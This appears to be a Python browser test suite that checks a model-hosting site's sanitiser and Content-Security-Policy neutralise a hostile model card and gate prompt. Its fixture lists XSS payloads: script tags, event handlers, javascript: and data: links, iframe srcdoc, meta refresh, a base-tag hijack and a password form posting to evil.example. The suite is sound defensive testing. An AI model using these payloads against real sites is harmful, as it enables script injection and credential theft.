"""A hostile model card (and gate prompt) renders inert in a real browser.

The sanitiser is the first wall and the Content-Security-Policy the second; these checks look at
what Chromium actually built and ran, not at the HTML the server sent.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.browser.conftest import Person, expect, new_page, person, release, signed_in_page
from tests.conftest import ServerProcess


HOSTILE = """
<script>alert("script element")</script>
<script src="/static/web/evil.js"></script>
<img src="missing.png" onerror="alert('img onerror')" alt="broken on purpose">
[a javascript link](javascript:alert('markdown js link'))
[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<a href="JaVaScRiPt:alert('raw js link')">a mixed-case javascript link</a>
<a href="  javascript:alert('spaced')">a spaced javascript link</a>
<a href="data:text/html,<script>alert(1)</script>">a raw data link</a>
<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<style>body { display: none !important }</style>
<svg onload="alert('svg onload')"><circle r="5"/></svg>
<details open ontoggle="alert('details ontoggle')"><summary>More</summary>hidden text</details>
<div style="background-image: url(javascript:alert('css'))" onclick="alert('click')">Click me</div>
<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
<base href="https://evil.example/">
"""

CARD = f"""---
license: mit
extra_gated_prompt: |
  Please read this. {HOSTILE.replace(chr(10), chr(10) + "  ")}
extra_gated_fields:
  Company: text
---
# Harmless heading

Ordinary **text** survives.
{HOSTILE}
"""

FINDINGS = """(root) => {
    const all = [...document.querySelectorAll('*')];
    return {
        scripts: root.querySelectorAll('script').length,
        active: root.querySelectorAll('iframe, object, embed, style, svg, form, meta, base, link').length,
        handlers: all.filter(el => [...el.attributes].some(a => a.name.toLowerCase().startsWith('on')))
                     .map(el => el.outerHTML.slice(0, 120)),
        urls: all.flatMap(el => ['href', 'src', 'action', 'data', 'srcdoc', 'style']
                     .map(name => el.getAttribute(name)).filter(Boolean))
                 .filter(v => /^\\s*(javascript|data|vbscript):/i.test(v) || /javascript:/i.test(v)),
        bodyShown: getComputedStyle(document.body).display !== 'none',
        externalForms: [...document.forms].map(f => f.action).filter(a => !a.startsWith(location.origin)),
        baseURI: document.baseURI.startsWith(location.origin),
    };
}"""


@pytest.fixture(scope="module")
def hostile(web_server: ServerProcess) -> tuple[Person, str]:
    owner = person(web_server)
    return owner, release(web_server, owner, CARD, gated="manual")


def watch(page: Any) -> list[str]:
    """Everything that would show that a script ran: dialogs, page errors, script-related console errors."""
    seen: list[str] = []

    def on_dialog(dialog: Any) -> None:
        seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: seen.append(f"page error: {error}"))
    # A refused image load (the card's own `missing.png`) is not a script; anything else is reported.
    page.on("console", lambda message: seen.append(f"console {message.type}: {message.text}")
            if message.type == "error" and not message.text.startswith("Failed to load resource") else None)
    return seen


def check_inert(page: Any, root: str, seen: list[str]) -> None:
    findings = page.locator(root).evaluate(FINDINGS)
    assert findings["scripts"] == 0, findings
    assert findings["active"] == 0, findings
    assert findings["handlers"] == [], findings
    assert findings["urls"] == [], findings
    assert findings["bodyShown"] and findings["baseURI"], findings
    assert findings["externalForms"] == [], findings
    # Clicking what was meant to run something runs nothing and goes nowhere.
    url = page.url
    for name in ("a mixed-case javascript link", "a spaced javascript link", "a raw data link", "Click me"):
        page.locator(root).get_by_text(name, exact=True).first.click()
    assert page.url == url
    assert seen == []


def test_hostile_card_renders_inert(browser: Any, web_server: ServerProcess, hostile: tuple[Person, str]) -> None:
    _, repo_id = hostile
    page = new_page(browser, web_server)
    seen = watch(page)
    response = page.goto(f"/{repo_id}")
    assert response is not None and response.status == 200
    card = page.get_by_role("article", name="Model card")
    expect(card.get_by_role("heading", name="Harmless heading")).to_be_visible()
    expect(card.locator("strong", has_text="text")).to_be_visible()
    expect(card.get_by_text("hidden text")).to_be_attached()  # the details element's content survives
    check_inert(page, "article.card", seen)


def test_hostile_gate_prompt_renders_inert(browser: Any, web_server: ServerProcess,
                                           hostile: tuple[Person, str]) -> None:
    _, repo_id = hostile
    page = signed_in_page(browser, web_server, person(web_server), f"/{repo_id}/access")
    seen = watch(page)
    page.reload()
    prompt = page.locator("section.gate .prompt")
    expect(prompt).to_contain_text("Please read this.")
    check_inert(page, "section.gate .prompt", seen)
    expect(page.get_by_label("Company")).to_be_visible()  # the real form is still there
